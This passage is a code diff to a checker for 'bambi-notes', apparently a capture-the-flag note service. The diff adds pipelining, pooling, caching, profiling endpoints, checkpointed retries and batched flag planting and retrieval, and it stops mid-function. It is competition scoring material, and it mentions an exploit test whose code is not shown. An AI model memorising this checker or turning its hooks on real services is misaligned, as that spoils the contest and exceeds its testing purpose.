@@ -1,8 +1,13 @@
 from asyncio import StreamReader, StreamWriter
+from collections import deque
+from contextlib import asynccontextmanager
+from functools import partial
+from time import perf_counter
 import asyncio
+import logging
+import os
 import random
 import string
-import faker
 
 from typing import Optional
 from logging import LoggerAdapter
@@ -11,7 +16,6 @@ from enochecker3 import (
     ChainDB,
     Enochecker,
     ExploitCheckerTaskMessage,
-    FlagSearcher,
     BaseCheckerTaskMessage,
     PutflagCheckerTaskMessage,
     GetflagCheckerTaskMessage,
@@ -22,11 +26,29 @@ from enochecker3 import (
     OfflineException,
     InternalErrorException,
     PutflagCheckerTaskMessage,
-    AsyncSocket,
 )
 
 from enochecker3.utils import assert_equals, assert_in
 
+from protocol import ProtocolParser, NoteList, NoteEntry, SavedEntry, BANNER, READ_CHUNK
+from pool import ConnectionPool, POOL_SIZE
+from noise import NoiseCorpus
+from cache import ChainCache, ChainFetcher, CachedChainDB, CACHE_ROUNDS
+from fastapi import HTTPException
+from fastapi.responses import PlainTextResponse, StreamingResponse
+import metrics
+from metrics import instrument, timed
+from transcript import Transcript, RECEIVED, SENT, traced
+from coalesce import Coalescer, COALESCE_MAX
+from flags import FlagStream
+from admission import Admission, FLAG, OTHER
+from enochecker_core import CheckerMethod, CheckerTaskMessage
+from batch import run_batch
+from record import RECORDER, recorded
+from checkpoint import Checkpoint
+import profiling
+from profiling import PROFILER, profiled
+
 class UserExistsException(MumbleException):
     def __init__(self):
         super().__init__("Registration Failed!")
@@ -37,21 +59,106 @@ class InvalidCredentialsException(MumbleException):
 
 SERVICE_PORT = 9204
 checker = Enochecker("bambi-notes", SERVICE_PORT)
-app = lambda: checker.app
+CACHE = ChainCache()
+FETCHER = ChainFetcher(CACHE)
+# Flags of one coalesced session each take their own slot 1-9
+COALESCER = Coalescer(limit=min(COALESCE_MAX, 9))
+# Created before gunicorn forks (preload_app), shared with the workers through lock files
+ADMISSION = Admission()
+# Warm connections are opened outside the admission slots, so the pool stays off while they are enforced
+POOL = ConnectionPool(SERVICE_PORT, 0 if ADMISSION.enabled else POOL_SIZE)
+metrics.REGISTRY.collector(lambda: {f"bambi_pool_{k}": v for k, v in POOL.stats().items()})
+metrics.REGISTRY.collector(lambda: {f"bambi_cache_{k}": v for k, v in CACHE.stats().items()})
+metrics.REGISTRY.collector(lambda: {f"bambi_fetch_{k}": v for k, v in FETCHER.stats().items()})
+metrics.REGISTRY.collector(lambda: {f"bambi_record_{k}": v for k, v in RECORDER.stats().items()})
+metrics.REGISTRY.collector(lambda: {f"bambi_profile_{k}": v for k, v in PROFILER.stats().items()})
+metrics.REGISTRY.collector(lambda: {f"bambi_coalesce_{k}": v for k, v in COALESCER.stats().items()})
+metrics.REGISTRY.collector(lambda: {f"bambi_admission_{k}": v for k, v in ADMISSION.stats().items()})
+
+@checker.register_dependency
+def _get_cached_chaindb(task: BaseCheckerTaskMessage, db: ChainDB) -> CachedChainDB:
+    ttl = task.round_length / 1000 * CACHE_ROUNDS
+    return CachedChainDB(db, CACHE, ttl, FETCHER, settled=task.related_round_id < task.current_round_id,
+                         on_read=RECORDER.state if RECORDER.enabled else None)
+
+_app = None
+
+def preload():
+    """Build what every worker needs while gunicorn preloads, so it is shared after fork."""
+    NOISE.build()
+    app()
+
+def app():
+    global _app
+    if _app is not None:
+        return _app
+    app = _app = checker.app
+
+    @app.get("/pool")
+    def pool_stats() -> dict:
+        return POOL.stats()
+
+    @app.get("/cache")
+    def cache_stats() -> dict:
+        return CACHE.stats()
+
+    @app.get("/metrics", response_class=PlainTextResponse)
+    def metrics_export() -> str:
+        return metrics.REGISTRY.render()
+
+    @app.get("/profiles")
+    def profiles() -> dict:
+        return PROFILER.listing()
+
+    @app.put("/profiles")
+    def profiles_config(update: dict) -> dict:
+        """Switch profiling for every worker, e.g. {"enabled": true, "threshold": 2, "methods": ["getnoise1"]}."""
+        try:
+            return PROFILER.configure(update)
+        except ValueError as e:
+            raise HTTPException(status_code=422, detail=str(e))
+
+    @app.get("/profiles/{name}")
+    def profile(name: str, format: str = "json"):
+        try:
+            report = PROFILER.read(name)
+        except KeyError:
+            raise HTTPException(status_code=404, detail="No such profile")
+        return PlainTextResponse(profiling.collapsed(report)) if format == "collapsed" else report
+
+    # The route enochecker serves single tasks on, so batched tasks are handled the same way
+    single = next(route.endpoint for route in app.routes if getattr(route, "path", None) == "/")
+
+    @app.post("/batch")
+    async def batch(tasks: list[CheckerTaskMessage]) -> StreamingResponse:
+        return StreamingResponse(run_batch(single, tasks), media_type="application/x-ndjson")
+
+    return app
 
 CHARSET = string.ascii_letters + string.digits + "_-"
 
-BANNER = b"Welcome to Bambi-Notes!\n"
 DEFAULT_NOTE = b"Well, it's a note-taking service. What did you expect?"
 
-FAKER = faker.Faker(faker.config.AVAILABLE_LOCALES)
+# Queue menu operations and send them in one write (the service reads stdin unbuffered)
+PIPELINE_ENABLED = os.getenv("BAMBI_PIPELINE", "0") == "1"
+
+# Optional upper bound for a single connect/read/write; unset, a step may use the whole remaining budget
+STEP_TIMEOUT = float(os.getenv("BAMBI_STEP_TIMEOUT", "0")) or None
+# Give up this long before the task timeout, ahead of enochecker's own 2s buffer
+DEADLINE_MARGIN = float(os.getenv("BAMBI_DEADLINE_MARGIN", "2.5"))
+
+# Connections exploit_test spreads a victim's files over, each loading into slots 1-9 per listing
+EXPLOIT_CONNECTIONS = int(os.getenv("BAMBI_EXPLOIT_CONNECTIONS", "4"))
+EXPLOIT_SLOTS = range(1, 10)
+
+# Commands per havoc1 session and how often each is picked
+HAVOC_OPS = int(os.getenv("BAMBI_HAVOC_OPS", "8"))
+HAVOC_MIX = {"create": 4, "list": 3, "save": 2, "load": 2, "delete": 1}
+
+NOISE = NoiseCorpus()
 
 def gen_rando_bs(max_len = 0x30):
-    if random.getrandbits(1):
-        rando_str = FAKER.bs()
-    else:
-        rando_str = FAKER.catch_phrase()
-    return rando_str.encode()[:max_len]
+    return NOISE.pick(max_len)
 
 class BambiNoteClient():
     UNAUTHENTICATED = 0
@@ -60,25 +167,90 @@ class BambiNoteClient():
     task: BaseCheckerTaskMessage
     reader: StreamReader
     writer: StreamWriter
+    send_queue: Optional[bytearray]
+    pending_checks: list
+    flags: Optional[FlagStream]
 
     def __init__(self, task, logger : Optional[LoggerAdapter]=None) -> None:
         self.state = self.UNAUTHENTICATED
         self.task = task
         self.logger = logger
+        self.send_queue = None
+        self.pending_checks = []
+        self.checks_done = 0
+        # Open metrics step of the queueing method and the time spent flushing, see metrics.timed
+        self.step = None
+        self.flush_seconds = 0.0
+        self.flags = None
+        self.slot = None
+        self.parser = ProtocolParser()
+        self.metrics = metrics.current()
+        self.transcript = Transcript()
+        self.deadline = asyncio.get_running_loop().time() + task.timeout / 1000 - DEADLINE_MARGIN
+        profiling.attach()
 
     async def __aenter__(self):
+        if ADMISSION.enabled:
+            await self.admit()
         try:
-            self.reader, self.writer = await asyncio.open_connection(self.task.address, SERVICE_PORT) 
+            return await self.connect()
+        except BaseException:
+            self.release()
+            raise
+
+    async def admit(self):
+        method = CheckerMethod(self.task.method)
+        priority = FLAG if method in (CheckerMethod.PUTFLAG, CheckerMethod.GETFLAG) else OTHER
+        try:
+            self.slot = await ADMISSION.acquire(self.task.address, priority, self.deadline)
+        except TimeoutError:
+            # Our own backlog, not the team's fault
+            raise InternalErrorException("No free session slot for this team before the deadline")
+
+    def release(self):
+        if self.slot is not None:
+            ADMISSION.release(self.task.address, self.slot)
+            self.slot = None
+
+    async def connect(self):
+        start = perf_counter()
+        conn = POOL.acquire(self.task.address) if POOL.enabled else None
+        if conn is not None:
+            self.reader, self.writer, self.parser, _ = conn
+            self.metrics.step("connect", start)
+            self.logger.info("Connected! (warm)")
+            return self
+
+        try:
+            async with self.budget(OfflineException, "Service connection timed out!"):
+                self.reader, self.writer = await asyncio.open_connection(self.task.address, SERVICE_PORT)
+        except OfflineException:
+            raise
         except:
             raise OfflineException("Failed to establish a service connection!")
+        self.metrics.step("connect", start)
 
         self.logger.info("Connected!")
+        start = perf_counter()
         await self.readuntil(BANNER)
+        self.metrics.step("banner", start)
         return self
 
-    async def __aexit__(self, *args):
+    async def __aexit__(self, exc_type, exc, tb):
+        failed = exc_type is not None and not issubclass(exc_type, asyncio.CancelledError)
+        # Transcripts hold flags and passwords in plain text, only addresses traced on purpose get them at info
+        if traced(self.task.address):
+            self.logger.info("Session transcript (traced):\n%s", self.transcript.render())
+        elif failed and self.logger.isEnabledFor(logging.DEBUG):
+            self.logger.debug("Session transcript (failed):\n%s", self.transcript.render())
         self.writer.close()
-        await self.writer.wait_closed()
+        try:
+            await self.writer.wait_closed()
+        except ConnectionError:
+            # Pipelined input the service never read makes it reset the connection
+            pass
+        finally:
+            self.release()
 
     async def assert_authenticated(self):
         if self.state == BambiNoteClient.UNAUTHENTICATED:
@@ -87,211 +259,323 @@ class BambiNoteClient():
     async def check_prompt(self):
         pass
     
+    @asynccontextmanager
+    async def budget(self, error: type, message: str):
+        """Bound one network step by the remaining task budget, aborting the connection once it runs out."""
+        loop = asyncio.get_running_loop()
+        when = self.deadline if STEP_TIMEOUT is None else min(self.deadline, loop.time() + STEP_TIMEOUT)
+        try:
+            if when <= loop.time():
+                raise TimeoutError
+            async with asyncio.timeout_at(when):
+                yield
+        except TimeoutError:
+            self.debug_log("Step timed out with %.2fs of the task budget left", self.deadline - loop.time())
+            if hasattr(self, "writer"):
+                self.writer.transport.abort()
+            raise error(message) from None
+
+    @property
+    def checks_issued(self) -> int:
+        return self.checks_done + len(self.pending_checks)
+
     def debug_log(self, *args, **kwargs):
         if self.logger is not None:
             self.logger.debug(*args, **kwargs)
 
-    async def readuntil(self, separator=b'\n', *args, **kwargs):
-        self.debug_log(f"reading until {separator}")
+    @asynccontextmanager
+    async def pipeline(self):
+        """Queue writes and prompt checks until a result is needed or the block ends."""
+        if not PIPELINE_ENABLED or self.send_queue is not None:
+            yield self
+            return
+
+        self.send_queue = bytearray()
         try:
-            result = await self.reader.readuntil(separator, *args, **kwargs)
-        except Exception as e:
-            self.debug_log(f"Failed client readuntil: {e}")
-            raise
+            yield self
+            await self.flush()
+        finally:
+            self.send_queue = None
+            self.pending_checks = []
+
+    async def flush(self):
+        if not self.send_queue and not self.pending_checks:
+            return
+        await self._flush()
+
+    async def _flush(self):
+        start = perf_counter()
+        try:
+            await self._send_and_check()
+        finally:
+            self.flush_seconds += perf_counter() - start
+            self.metrics.step("flush", start)
+
+    async def _send_and_check(self):
+        data = bytes(self.send_queue)
+        checks = self.pending_checks
+        self.send_queue.clear()
+        self.pending_checks = []
+
+        self.transcript.record(SENT, data)
+        self.metrics.bytes_out += len(data)
+        self.writer.write(data)
+        async with self.budget(MumbleException, "Service stopped accepting input in time!"):
+            await self.writer.drain()
+
+        for read, expected, error, step in checks:
+            start = perf_counter()
+            try:
+                await self._check(read, expected, error)
+            except (ConnectionError, asyncio.IncompleteReadError) as e:
+                # The service bailed out on input queued behind a failed step
+                self.debug_log("Pipelined read failed: %s", e)
+                if error is None:
+                    raise
+                self._fail(error)
+            finally:
+                # Waiting for this answer is the step that queued it
+                if step is not None:
+                    step[1] += perf_counter() - start
+
+    def _fail(self, error):
+        if isinstance(error, str):
+            raise MumbleException(error)
+        raise error()
+
+    async def _check(self, read, expected, error):
+        result = await read()
+        if expected is None or result == expected:
+            self.checks_done += 1
+            return
+        if error is None or isinstance(error, str):
+            assert_equals(result, expected, error)
+        raise error()
+
+    async def expect(self, read, expected=None, error=None):
+        """Read and optionally compare a response, deferred while pipelining."""
+        if self.send_queue is not None:
+            self.pending_checks.append((read, expected, error, self.step))
+            return
+        await self._check(read, expected, error)
+
+    async def expect_until(self, separator, expected=None, error=None):
+        await self.expect(partial(self._readuntil, separator), expected, error)
+
+    async def expect_line(self, expected, error=None):
+        await self.expect(partial(self._readuntil, b'\n'), expected, error)
+
+    async def expect_exactly(self, expected, error=None):
+        await self.expect(partial(self._readexactly, len(expected)), expected, error)
+
+    async def _fill(self):
+        # Reads may come from a task the session was handed to (exploit0's scans)
+        profiling.attach()
+        async with self.budget(MumbleException, "Service did not respond in time!"):
+            chunk = await self.reader.read(READ_CHUNK)
+        if not chunk:
+            if self.flags is not None:
+                self.flags.finish()
+            raise asyncio.IncompleteReadError(self.parser.pending(), None)
+        self.transcript.record(RECEIVED, chunk)
+        self.metrics.bytes_in += len(chunk)
+        if self.flags is not None:
+            self.flags.feed(chunk)
+        self.parser.feed(chunk)
+
+    async def _readuntil(self, separator=b'\n'):
+        while (result := self.parser.take_until(separator)) is None:
+            await self._fill()
+        return result
 
-        self.debug_log(f">>>\n {result}")
+    async def _readexactly(self, n):
+        while (result := self.parser.take_exactly(n)) is None:
+            await self._fill()
         return result
 
+    async def events(self):
+        await self.flush()
+        while True:
+            for event in self.parser.events():
+                yield event
+            if self.parser.idle:
+                return
+            await self._fill()
+
+    async def readuntil(self, separator=b'\n'):
+        await self.flush()
+        return await self._readuntil(separator)
+
     async def readline(self):
         return await self.readuntil(b'\n')
 
+    async def readexactly(self, n):
+        await self.flush()
+        return await self._readexactly(n)
+
     async def write(self, data: bytes):
-        self.debug_log(f"<<<\n{data}")
+        if self.send_queue is not None:
+            self.send_queue += data
+            return
+
+        self.transcript.record(SENT, data)
+        self.metrics.bytes_out += len(data)
         self.writer.write(data)
-        await self.writer.drain()
+        async with self.budget(MumbleException, "Service stopped accepting input in time!"):
+            await self.writer.drain()
     
     async def read_menu(self):
         if self.state == BambiNoteClient.UNAUTHENTICATED:
-            try:
-                await self.readuntil( b"===== [Unauthenticated] =====\n" )
-                assert_equals( await self.readline(), b"   1. Register\n" ) 
-                assert_equals( await self.readline(), b"   2. Login\n" ) 
-
-            except:
-                raise MumbleException("Failed to fetch unauthenticated Menu!")
-
+            self.parser.expect_menu(None)
+            error = "Failed to fetch unauthenticated Menu!"
         else:
-            try:
-                await self.readuntil( f"===== [{self.state[0]}] =====".encode())
-                assert_equals( await self.readline(), b"   1. Create\n" ) 
-                assert_equals( await self.readline(), b"   2. Print\n" ) 
-                assert_equals( await self.readline(), b"   3. List Saved\n" ) 
-                assert_equals( await self.readline(), b"   4. Delete\n" ) 
-                assert_equals( await self.readline(), b"   5. Load\n" ) 
-                assert_equals( await self.readline(), b"   6. Save\n" ) 
+            self.parser.expect_menu(self.state[0])
+            error = "Failed to fetch authenticated Menu!"
 
-            except: 
-                raise MumbleException("Failed to fetch authenticated Menu!")
+        try:
+            async for _ in self.events():
+                pass
+        except:
+            raise MumbleException(error)
 
+    @timed("register")
     async def register(self, username, password):
         if self.state != BambiNoteClient.UNAUTHENTICATED:
             raise InternalErrorException("We're already authenticated")
 
-        await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         
         await self.write(b"1\n")
         
-        await self.readuntil(b"Username:\n> ")
+        await self.expect_until(b"Username:\n> ")
         await self.write(username.encode() + b"\n")
         
-        await self.readuntil(b"Password:\n> ")
+        await self.expect_until(b"Password:\n> ")
         await self.write(password.encode() + b"\n")
         
-        await self.readuntil(b"Registration successful!\n")
+        await self.expect_until(b"Registration successful!\n")
         self.state = (username, password)
     
     
+    @timed("register")
+    async def register_or_login(self, username, password):
+        if self.state != BambiNoteClient.UNAUTHENTICATED:
+            raise InternalErrorException("We're already authenticated")
+
+        await self.expect_until(b"> ")
+        await self.write(b"1\n")
+
+        await self.expect_until(b"Username:\n> ")
+        await self.write(username.encode() + b"\n")
+
+        if await self.readline() == b"Username already taken!\n":
+            await self.login(username, password)
+            return
+
+        await self.expect_until(b"> ")
+        await self.write(password.encode() + b"\n")
+
+        await self.expect_until(b"Registration successful!\n")
+        self.state = (username, password)
+
+    @timed("login")
     async def login(self, username, password):
         if self.state != BambiNoteClient.UNAUTHENTICATED:
             raise InternalErrorException("We're already authenticated")
 
-        await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         await self.write(b"2\n")
         
-        line = await self.readuntil(b"> ")
-        assert_equals(line, b"Username:\n> ", "Login Failed!")
+        await self.expect_until(b"> ", b"Username:\n> ", "Login Failed!")
         await self.write(username.encode() + b"\n")
         
-        line = await self.readline()
-        try:
-            assert_equals(line, b"Password:\n", "Login Failed!")
-        except:
-            raise InvalidCredentialsException
-        await self.readuntil(b"> ")
+        await self.expect_line(b"Password:\n", InvalidCredentialsException)
+        await self.expect_until(b"> ")
         await self.write(password.encode() + b"\n")
         
-        line = await self.readline()
-        if line != b"Login successful!\n":
-            raise InvalidCredentialsException()
+        await self.expect_line(b"Login successful!\n", InvalidCredentialsException)
 
         self.state = (username, password)
 
+    @timed("create_note")
     async def create_note(self, idx: int, note_data: bytes):
         if self.state == BambiNoteClient.UNAUTHENTICATED:
             raise InternalErrorException("Trying invoke authenticated method in unauthenticated context")
         
-        prompt = await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         await self.write(b"1\n")
         
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Which slot to save the note into?\n> ", "Failed to create a new note")
+        await self.expect_until(b"> ", b"Which slot to save the note into?\n> ", "Failed to create a new note")
         await self.write(f"{idx}\n".encode())
                 
-        prompt = await self.readline()
-        assert_equals(prompt, f"Note [{idx}]\n".encode(), "Failed to create a new note")
-        prompt = await self.reader.readexactly(2)
-        assert_equals(prompt, b"> ", "Failed to create a new note")
+        await self.expect_line(f"Note [{idx}]\n".encode(), "Failed to create a new note")
+        await self.expect_exactly(b"> ", "Failed to create a new note")
 
         await self.write(note_data + b"\n")
         
-        line = await self.readline()
-        assert_equals(line, b"Note Created!\n", "Failed to create a new note")
+        await self.expect_line(b"Note Created!\n", "Failed to create a new note")
 
+    @timed("list_notes")
     async def list_notes(self):
         self.assert_authenticated()
 
-        notes = {}
-        notes['saved'] = []
+        notes = NoteList()
 
-        prompt = await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         await self.write(b"3\n")
         
-        await self.readuntil(f"\n\n===== [{self.state[0]}'s Notes] =====\n".encode())
-        
-        line = await self.readline()
-        if line == b"Currently Loaded:\n":
-            while True:
-                line = await self.readline()
-                
-                if line == b"Saved Notes:\n":
-                    break
-
-                if line == b"===== [End of Notes] =====\n":
-                    self.logger.info(f"Note list: {notes}")
-                    return notes
-                
-                assert_equals(line[:4], b"    ", "Failed to list Notes!")
-                assert_equals(line[-1], 0xa,     "Failed to list Notes!")
-                idx, text = (line[4:-1].split(b" | ", maxsplit=1))
-                
-                try:
-                    notes[int(idx)] = text
-                except ValueError:
-                    raise MumbleException("Failed to list Notes!")
-
-        if line == b"Saved Notes:\n":
-            while True:
-                line = await self.readline()
-                if line == b"===== [End of Notes] =====\n":
-                    self.logger.info(f"Note list: {notes}")
-                    return notes
-
-                assert_equals(line[:3], b" | ", "Failed to list Notes!")
-                filename = line[3:-1]
-                notes['saved'].append(filename)
-        
-        self.logger.info(f"Note list: {notes}")
+        self.parser.expect_listing(self.state[0])
+        async for event in self.events():
+            if isinstance(event, NoteEntry):
+                notes[event.idx] = event.text
+            elif isinstance(event, SavedEntry):
+                notes.saved.add(event.filename)
+
+        self.debug_log("Note list: %s", notes)
         return notes
 
+    @timed("delete_note")
     async def delete_note(self, idx):
         self.assert_authenticated()
         
-        prompt = await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         await self.write(b"4\n")
         
-        line = await self.readline()
-        assert_equals(line, b"<Idx> of Note to delete?\n", "Failed to delete Note!")
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"> ", "Failed to delete Note!")
+        await self.expect_line(b"<Idx> of Note to delete?\n", "Failed to delete Note!")
+        await self.expect_until(b"> ", b"> ", "Failed to delete Note!")
 
         await self.write(f"{idx}\n".encode())
 
-        line = await self.readline()
-        assert_equals(line, b"Note deleted!\n", "Failed to delete Note!")
+        await self.expect_line(b"Note deleted!\n", "Failed to delete Note!")
 
+    @timed("load_note")
     async def load_note(self, idx: int, filename: str):
         self.assert_authenticated()
         
-        prompt = await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         await self.write(b"5\n")
         
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Which note to load?\nFilename > ", "Failed to delete Note!")
+        await self.expect_until(b"> ", b"Which note to load?\nFilename > ", "Failed to delete Note!")
         await self.write(f"{filename}\n".encode())
         
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Which slot should it be stored in?\n> ")
+        await self.expect_until(b"> ", b"Which slot should it be stored in?\n> ")
         await self.write(f"{idx}\n".encode())
         
+    @timed("save_note")
     async def save_note(self, idx: int, filename: str):
         self.assert_authenticated()
 
-        prompt = await self.readuntil(b"> ")
+        await self.expect_until(b"> ")
         await self.write(b"6\n")
         
-        prompt = await self.readuntil(b"> ")
-        assert_equals( prompt, b"Which note to save?\n> ", "Failed to save Note!")
+        await self.expect_until(b"> ", b"Which note to save?\n> ", "Failed to save Note!")
         await self.write(f"{idx}\n".encode())
         
-        line = await self.readline()
-        assert_equals(line, b"Which file to save into?\n", "Failed to save Note!")
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Filename > ", "Failed to save Note!")
+        await self.expect_line(b"Which file to save into?\n", "Failed to save Note!")
+        await self.expect_until(b"> ", b"Filename > ", "Failed to save Note!")
         await self.write(f"{filename}\n".encode())
         
-        line = await self.readline()
-        assert_equals(line, b"Note saved!\n", "Failed to save Note!")
-
+        await self.expect_line(b"Note saved!\n", "Failed to save Note!")
 
 def gen_random_str(k=16):
     return ''.join(random.choices(CHARSET, k=k))
@@ -302,37 +586,76 @@ def generate_creds(exploit_fake=False, namelen=16):
     password = ''.join(random.choices(CHARSET, k=namelen))
     return (username, password)
 
+async def register_once(client, checkpoint, username, password):
+    """Register, or log in if an earlier attempt of this task already registered."""
+    if checkpoint.done("registered", username):
+        await client.login(username, password)
+        return
+    if checkpoint.resuming:
+        # The earlier attempt may have registered without getting to record it
+        await client.register_or_login(username, password)
+    else:
+        await client.register(username, password)
+    checkpoint.reached(client, "registered", username)
+
 @checker.putflag(0)
+@instrument
+@recorded
+@profiled
 async def putflag_test(
     task: PutflagCheckerTaskMessage,
-    db: ChainDB,
+    db: CachedChainDB,
     logger: LoggerAdapter
 ) -> None:
 
     logger.debug("TESTTEST123!")
-    username, password = generate_creds()
-    idx = random.randint(1, 9)
-    filename = gen_random_str()
-    await db.set("flag_info", (username, password, idx, filename))
+    # Other workers may have cached the stored credentials, a retry must keep them
+    flag_info, checkpoint = await Checkpoint.load(db, "flag_info")
+    if flag_info is not None:
+        username, password, idx, filename = flag_info
+        if checkpoint.done("saved", filename):
+            return username
+    else:
+        if COALESCER.enabled:
+            flag_info = await COALESCER.submit((task.address, "putflag"), (task, logger), put_flags)
+            if flag_info is not None:
+                await db.set("flag_info", flag_info)
+                return flag_info[0]
+
+        username, password = generate_creds()
+        idx = random.randint(1, 9)
+        filename = gen_random_str()
+        await db.set("flag_info", (username, password, idx, filename))
     
-    async with BambiNoteClient(task, logger) as client:
-        await client.register(username, password)
-        await client.create_note(idx, task.flag.encode())
-        await client.save_note(idx, filename)
+    async with BambiNoteClient(task, logger) as client, checkpoint.track(client), client.pipeline():
+        await register_once(client, checkpoint, username, password)
+        await checkpoint.find_saved(client, [filename])
+        if not checkpoint.done("saved", filename):
+            await client.create_note(idx, task.flag.encode())
+            await client.save_note(idx, filename)
+            checkpoint.reached(client, "saved", filename)
 
     return username
 
 @checker.getflag(0)
+@instrument
+@recorded
+@profiled
 async def getflag_test(
-    task: GetflagCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter
+    task: GetflagCheckerTaskMessage, db: CachedChainDB, logger: LoggerAdapter
 ) -> None:
     try:
         username, password, _, filename = await db.get("flag_info")
     except KeyError:
         raise MumbleException("Missing database entry from putflag")
 
+    if COALESCER.enabled:
+        job = (task, logger, username, password, filename)
+        if await COALESCER.submit((task.address, "getflag", username), job, get_flags) is not None:
+            return
+
     idx = random.randint(1,9)
-    async with BambiNoteClient(task, logger) as client:
+    async with BambiNoteClient(task, logger) as client, client.pipeline():
         await client.login(username, password)
         await client.load_note(idx, filename)
 
@@ -341,18 +664,116 @@ async def getflag_test(
             assert note_list[idx] == task.flag.encode()
         except:
             raise MumbleException("Flag not found!") 
-        
+
+def failed_step(marks, failed_at):
+    """Future of the job whose checks include number `failed_at`, None if it was a shared step."""
+    for fut, end in marks:
+        if end is None or failed_at < end:
+            return fut
+    return None
+
+async def put_flags(batch):
+    """Store the flags of several putflag tasks under one user, one slot each.
+
+    A failure is attributed to the task whose step failed; tasks before it
+    succeeded and tasks after it are left to run on their own.
+    """
+    username, password = generate_creds()
+    slots = random.sample(range(1, 10), len(batch))
+    task, logger = batch[0][0]
+    client = BambiNoteClient(task, logger)
+    marks, results = [[None, None]], []
+    try:
+        with metrics.track("putflag_batch", task.variant_id):
+            async with client, client.pipeline():
+                await client.register(username, password)
+                marks[-1][1] = client.checks_issued
+
+                for ((task, _), fut), idx in zip(batch, slots):
+                    if fut.done():
+                        continue
+                    marks.append([fut, None])
+                    filename = gen_random_str()
+                    await client.create_note(idx, task.flag.encode())
+                    await client.save_note(idx, filename)
+                    marks[-1][1] = client.checks_issued
+                    results.append((fut, (username, password, idx, filename)))
+    except Exception as e:
+        owner = failed_step(marks, client.checks_done)
+        if owner is None:
+            raise
+        for fut, result in results:
+            if fut is owner:
+                break
+            if not fut.done():
+                fut.set_result(result)
+        if not owner.done():
+            owner.set_exception(e)
+        return
+
+    for fut, result in results:
+        if not fut.done():
+            fut.set_result(result)
+
+async def get_flags(batch):
+    """Load the flags of several getflag tasks sharing a user and check them with one listing."""
+    task, logger, username, password, _ = batch[0][0]
+    slots = random.sample(range(1, 10), len(batch))
+    client = BambiNoteClient(task, logger)
+    marks, loaded = [[None, None]], []
+    try:
+        with metrics.track("getflag_batch", task.variant_id):
+            async with client, client.pipeline():
+                await client.login(username, password)
+                marks[-1][1] = client.checks_issued
+
+                for ((task, _, _, _, filename), fut), idx in zip(batch, slots):
+                    if fut.done():
+                        continue
+                    marks.append([fut, None])
+                    await client.load_note(idx, filename)
+                    marks[-1][1] = client.checks_issued
+                    loaded.append((task, fut, idx))
+
+                marks.append([None, None])
+                note_list = await client.list_notes()
+    except Exception as e:
+        owner = failed_step(marks, client.checks_done)
+        if owner is None:
+            raise
+        if not owner.done():
+            owner.set_exception(e)
+        return
+
+    for task, fut, idx in loaded:
+        if fut.done():
+            continue
+        if note_list.get(idx) == task.flag.encode():
+            fut.set_result(True)
+        else:
+            fut.set_exception(MumbleException("Flag not found!"))
 
 @checker.putnoise(0)
-async def putnoise0(task: PutnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
-    (username, password) = generate_creds()
-    idx = random.randint(0,9)
-    note = gen_rando_bs(max_len=0x38)
-    filename = gen_random_str()
+@instrument
+@recorded
+@profiled
+async def putnoise0(task: PutnoiseCheckerTaskMessage, db: CachedChainDB, logger: LoggerAdapter):
+    noise_info, checkpoint = await Checkpoint.load(db, 'noise_info')
+    if noise_info is not None:
+        (username, password, note, filename) = noise_info
+        if checkpoint.done("saved", filename):
+            return
+    else:
+        (username, password) = generate_creds()
+        note = gen_rando_bs(max_len=0x38)
+        filename = gen_random_str()
+        await db.set('noise_info', (username, password, note, filename))
 
-    await db.set('noise_info', (username, password, note, filename))
-    async with BambiNoteClient(task, logger) as client:
-        await client.register(username, password)
+    async with BambiNoteClient(task, logger) as client, checkpoint.track(client), client.pipeline():
+        await register_once(client, checkpoint, username, password)
+        await checkpoint.find_saved(client, [filename])
+        if checkpoint.done("saved", filename):
+            return
 
         if random.getrandbits(1):
             await client.list_notes()
@@ -373,21 +794,25 @@ async def putnoise0(task: PutnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
             assert_equals(note, notes[random_idx], "Note not in list!")
         
         await client.save_note(random_idx, filename)
+        checkpoint.reached(client, "saved", filename)
         
 @checker.getnoise(0)
-async def getnoise0(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
+@instrument
+@recorded
+@profiled
+async def getnoise0(task: GetnoiseCheckerTaskMessage, db: CachedChainDB, logger: LoggerAdapter):
     try:
         (username, password, note, filename) = await db.get('noise_info')
     except:
         raise MumbleException("Putnoise Failed!") 
 
     random_idx = random.randint(0,9)
-    async with BambiNoteClient(task, logger) as client:
+    async with BambiNoteClient(task, logger) as client, client.pipeline():
         await client.login(username, password)
         
         if random.getrandbits(1):
             note_list = await client.list_notes()
-            if filename.encode() not in note_list["saved"]:
+            if filename.encode() not in note_list.saved:
                 logger.warn(f'"{filename}" not found in note_list {note_list}!')
                 raise MumbleException("Failed to find note on disk!")
 
@@ -401,23 +826,41 @@ async def getnoise0(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
 
 # Save multiple files
 @checker.putnoise(1)
-async def putnoise1(task: PutnoiseCheckerTaskMessage, db: ChainDB, logger: LoggerAdapter):
-    (username, password) = generate_creds()
-
-    #genrerate a few random_idxes
-    random_idx = [random.randint(0,9) for _ in range(random.randint(1,10))]
-    random_idx = list(dict.fromkeys(random_idx))
-    
-    notes = [ gen_rando_bs(max_len=0x38) for _ in random_idx]
-    filenames = [gen_random_str() for _ in random_idx]
-    await db.set('noise_info', (username, password, notes, filenames))
-
-    async with BambiNoteClient(task, logger) as client:
-        await client.register(username, password)
+@instrument
+@recorded
+@profiled
+async def putnoise1(task: PutnoiseCheckerTaskMessage, db: CachedChainDB, logger: LoggerAdapter):
+    noise_info, checkpoint = await Checkpoint.load(db, 'noise_info')
+    if noise_info is not None:
+        (username, password, notes, filenames) = noise_info
+        # Slots don't outlive the connection, only saved files do
+        random_idx = random.sample(range(10), len(notes))
+    else:
+        (username, password) = generate_creds()
+
+        #genrerate a few random_idxes
+        random_idx = [random.randint(0,9) for _ in range(random.randint(1,10))]
